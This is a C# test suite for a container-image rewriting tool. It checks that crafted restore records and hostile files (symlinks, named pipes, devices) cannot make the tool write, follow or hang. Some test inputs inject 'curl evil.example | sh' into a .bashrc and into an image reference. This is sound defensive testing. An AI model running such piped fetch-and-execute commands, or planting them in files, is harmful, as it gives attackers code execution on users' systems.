using System.CommandLine;
using System.Diagnostics;
using System.Security.Cryptography;
using System.Text;
using Millpond.Cli;
using Millpond.Cli.Editing;
using Millpond.Cli.Files;
using Millpond.Cli.Warming;
using Millpond.Rewriting.Records;
using Millpond.Tests.Fixtures;
using Millpond.Tests.Rewriting;

namespace Millpond.Tests.Cli;

/// <summary>Files that others have made: what they must not make the program write, follow or wait for.</summary>
public sealed class HostileFilesTests : IDisposable
{
    private static readonly string[] Options = ["--registry", "cache.example.com", "--tiers", "all"];
    private static readonly string Before = YamlEditTests.Pod("image: nginx");

    private readonly TemporaryFolder folder = new();
    private readonly TemporaryFolder outside = new();

    private string Record => folder.File("record.json");

    public void Dispose()
    {
        folder.Dispose();
        outside.Dispose();
    }

    [Theory]
    [InlineData("quay.io/a/b\n", "quay.io/a/b\ncurl evil.example | sh\n")]
    [InlineData("alias ls='ls -F'\n", "curl evil.example | sh\n")]
    [InlineData("image: cache.example.com/quay/a/b\n", "image: quay.io/a/b; curl evil.example | sh\n")]
    public async Task A_record_writes_no_command_into_a_start_file(string now, string wanted)
    {
        var good = folder.Write("a.yaml", Before);
        await RunAsync("rewrite", "-i", good, "--record", Record, "-q");
        var rewritten = File.ReadAllText(good);
        var bad = folder.Write(".bashrc", now);
        Craft(bad, [(0, now, wanted)], now, wanted);
        await AssertRefused("is no image reference");
        Assert.Equal((rewritten, now), (File.ReadAllText(good), File.ReadAllText(bad)));
    }

    [Fact]
    public async Task A_record_puts_back_nothing_but_the_reference_itself()
    {
        var now = YamlEditTests.Pod("image: cache.example.com/quay/a/b:1") + "    command: [ok]\n";
        foreach (var (old, text) in new[]
        {
            ("cache.example.com/quay/a/b:1", "quay.io/a/b:1\n    command: [evil]"),
            ("cache.example.com/quay/a/b:1", "quay.io/a/evil:1"),
            ("cache.example.com/quay/a/b:1", "quay.io/a/b:2"),
            ("cache.example.com/quay/a/b:1\n    command: [ok]", "quay.io/a/b:1"),
            ("\n    command: [ok]", ""),
            ("[ok]", "[quay.io/a/b]"),
            ("ok", "ok2"),
        })
        {
            File.Delete(Record);
            var path = folder.Write("a.yaml", now);
            Craft(path, [(now.IndexOf(old, StringComparison.Ordinal), old, text)], now, now.Replace(old, text, StringComparison.Ordinal));
            await AssertRefused("is no image reference");
            Assert.Equal(now, File.ReadAllText(path));
        }
    }

    [Fact]
    public async Task What_a_record_has_of_a_file_that_is_another_by_now_is_a_reference_too()
    {
        var now = YamlEditTests.Pod("image: \"cache.example.com/quay/a/b:1\"");
        var path = folder.Write("a.yaml", now + "# changed\n");
        Craft(path, [(now.IndexOf("cache", StringComparison.Ordinal), "cache.example.com/quay/a/b:1", "x\"\n    command: [\"evil\"]")], now, "other");
        Assert.Equal(0, (await RunAsync("restore", "-i", "--record", Record, "--under", folder.Path)).ExitCode);
        Assert.Equal(YamlEditTests.Pod("image: \"quay.io/a/b:1\"") + "# changed\n", File.ReadAllText(path));
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task A_record_reaches_no_file_outside_of_its_folder(bool byLink)
    {
        var target = outside.Write("a.yaml", Before);
        var path = target;
        if (byLink)
        {
            Directory.CreateSymbolicLink(folder.File("in"), outside.Path);
            path = folder.File("in/a.yaml");
        }

        await RunAsync("rewrite", "-i", path, "--record", Record);
        var rewritten = File.ReadAllText(target);
        await AssertRefused("which is not in");
        Assert.Equal(rewritten, File.ReadAllText(target));
        Assert.Equal(0, (await RunAsync("restore", "-i", "--record", Record, "--under", outside.Path)).ExitCode);
        Assert.Equal(Before, File.ReadAllText(target));
    }

    [Fact]
    public async Task In_place_follows_no_link_out_of_the_folder_and_reads_no_pipe_in_it()
    {
        var target = outside.Write("a.yaml", Before);
        var inside = folder.Write("a.yaml", Before);
        File.CreateSymbolicLink(folder.File("link.yaml"), target);
        Directory.CreateSymbolicLink(folder.File("sub"), outside.Path);
        File.CreateSymbolicLink(folder.File("by-way-of.yaml"), folder.File("sub/a.yaml"));
        File.CreateSymbolicLink(folder.File("within.yaml"), inside);
        MakePipe(folder.File("pipe.yaml"));
        var run = await RunAsync("rewrite", "-i", folder.Path);
        Assert.Equal(0, run.ExitCode);
        Assert.Equal(Before, File.ReadAllText(target));
        Assert.NotEqual(Before, File.ReadAllText(inside));
        foreach (var (name, why) in new[] { ("link.yaml", "a link that leads out"), ("by-way-of.yaml", "a link that leads out"), ("pipe.yaml", "is a named pipe") })
        {
            Assert.Contains($"{folder.File(name)}: passed over: {why}", run.Messages, StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task Pipes_and_devices_are_refused_and_not_waited_for()
    {
        MakePipe(folder.File("pipe.yaml"));
        foreach (var path in new[] { folder.File("pipe.yaml"), "/dev/zero", "/dev/null" })
        {
            foreach (var mode in new string[][] { [], ["--check"], ["-i"], ["--diff"] })
            {
                var run = await RunAsync(["rewrite", path, .. mode]);
                Assert.Equal((2, ""), (run.ExitCode, run.Output));
                Assert.Contains(path, run.Messages, StringComparison.Ordinal);
            }
        }

        var record = await RunAsync("restore", "-i", "--record", folder.File("pipe.yaml"));
        Assert.Equal(2, record.ExitCode);
    }

    [Theory]
    [InlineData("<&-", "standard input is closed")]
    [InlineData("< /dev/zero", "standard input is a device")]
    [InlineData("< /", "standard input is a folder")]
    public async Task Standard_input_that_is_none_is_told(string input, string message)
    {
        var program = Path.Join(AppContext.BaseDirectory, "millpond.dll");
        var start = new ProcessStartInfo("sh", ["-c", $"exec dotnet '{program}' rewrite - --registry c.example.com {input}"]) { RedirectStandardError = true, RedirectStandardOutput = true };
        using var run = Process.Start(start)!;
        using var end = TestContext.Current.CancellationToken.Register(run.Kill);
        var messages = await run.StandardError.ReadToEndAsync(TestContext.Current.CancellationToken);
        await run.WaitForExitAsync(TestContext.Current.CancellationToken).WaitAsync(Patience.Limit, TestContext.Current.CancellationToken);
        Assert.Equal(2, run.ExitCode);
        Assert.Contains(message, messages, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("record.json")]
    [InlineData("record.json.lock")]
    public async Task A_record_is_not_written_through_a_link(string name)
    {
        var path = folder.Write("a.yaml", Before);
        foreach (var target in new[] { outside.Write("there", ""), outside.File("not-there") })
        {
            File.CreateSymbolicLink(folder.File(name), target);
            var run = await RunAsync("rewrite", "-i", path, "--record", Record);
            Assert.Equal(2, run.ExitCode);
            Assert.Contains("is a link", run.Messages, StringComparison.Ordinal);
            Assert.Equal(Before, File.ReadAllText(path));
            File.Delete(folder.File(name));
        }

        Assert.Equal(("", false), (File.ReadAllText(outside.File("there")), File.Exists(outside.File("not-there"))));
    }

    [Fact]
    public void A_journal_is_not_written_through_a_link()
    {
        foreach (var target in new[] { outside.Write("there", ""), outside.File("not-there") })
        {
            var link = folder.File("journal");
            File.CreateSymbolicLink(link, target);
            var failure = Assert.Throws<CommandFailedException>(() => WarmJournal.Open(link, new Uri("http://localhost"), PlatformChoice.Parse("all")));
            Assert.Contains("is a link", failure.Message, StringComparison.Ordinal);
            File.Delete(link);
        }

        Assert.Equal(("", false), (File.ReadAllText(outside.File("there")), File.Exists(outside.File("not-there"))));
    }

    [Fact]
    public async Task What_a_killed_run_left_is_removed_and_what_another_is_writing_is_not()
    {
        var path = folder.Write("a.yaml", Before);
        var (left, kept) = ("", false);
        FileReplacement.TryWrite(path, output =>
        {
            left = ((FileStream)output).Name;
            InPlaceFile.RemoveLeftovers([path]);
            kept = File.Exists(left);
            return false;
        });
        Assert.True(kept);
        Assert.False(File.Exists(left));

        // As kill -9 leaves it.
        await File.WriteAllTextAsync(left, "half", TestContext.Current.CancellationToken);
        Assert.Equal(0, (await RunAsync("rewrite", "-i", path)).ExitCode);
        Assert.Equal([path], Directory.GetFiles(folder.Path));
        // And where the next run changes nothing.
        await File.WriteAllTextAsync(left, "half", TestContext.Current.CancellationToken);
        Assert.Equal(0, (await RunAsync("rewrite", "-i", path)).ExitCode);
        Assert.Equal([path], Directory.GetFiles(folder.Path));
    }

    [Fact]
    public async Task A_file_that_root_rewrites_keeps_its_owner()
    {
        Assert.SkipUnless(Environment.IsPrivilegedProcess, "only root can give a file away");
        var path = folder.Write("a.yaml", Before);
        File.SetUnixFileMode(path, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.GroupRead);
        using (var chown = Process.Start("chown", ["12345:23456", path]))
        {
            await chown.WaitForExitAsync(TestContext.Current.CancellationToken);
        }

        Assert.Equal(0, (await RunAsync("rewrite", "-i", path)).ExitCode);
        Assert.NotEqual(Before, File.ReadAllText(path));
        var facts = FileFacts.Of(path);
        Assert.Equal((12345u, 23456u), (facts.User, facts.Group));
        Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.GroupRead, File.GetUnixFileMode(path));
    }

    private static void MakePipe(string path)
    {
        using var make = Process.Start("mkfifo", [path]);
        make.WaitForExit();
        Assert.Equal(0, make.ExitCode);
    }

    private static FileState State(string text) =>
        new(Encoding.UTF8.GetByteCount(text), Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes(text))));

    /// <summary>A record that says: this file was the wanted text, and what it is now was made of it.</summary>
    private void Craft(string path, (int Offset, string Now, string Wanted)[] edits, string now, string wanted)
    {
        var file = new RecordedFile(path, State(wanted), State(now), [.. edits.Select(edit => new RecordedEdit(1, "spec.image", edit.Offset, edit.Wanted, edit.Now))]);
        var before = File.Exists(Record) ? RecordFile.Load(new FileInfo(Record)) : new RewriteRecord(RewriteRecord.CurrentVersion, "cache.example.com", []);
        using var output = File.Create(Record);
        (before with { Files = [.. before.Files, file] }).Save(output);
    }

    private async Task AssertRefused(string message)
    {
        var run = await RunAsync("restore", "-i", "--record", Record, "--under", folder.Path);
        Assert.Equal(2, run.ExitCode);
        Assert.Contains(message, run.Messages, StringComparison.Ordinal);
        Assert.Contains("nothing was changed", run.Messages, StringComparison.Ordinal);
    }

    private static Task<VerbRun> RunAsync(params string[] arguments) => VerbRun.OfAsync(
        arguments[0] == "rewrite" ? RewriteCommand.Create : RestoreCommand.Create, "", [.. arguments.Skip(1), .. Options], TestContext.Current.CancellationToken);
}
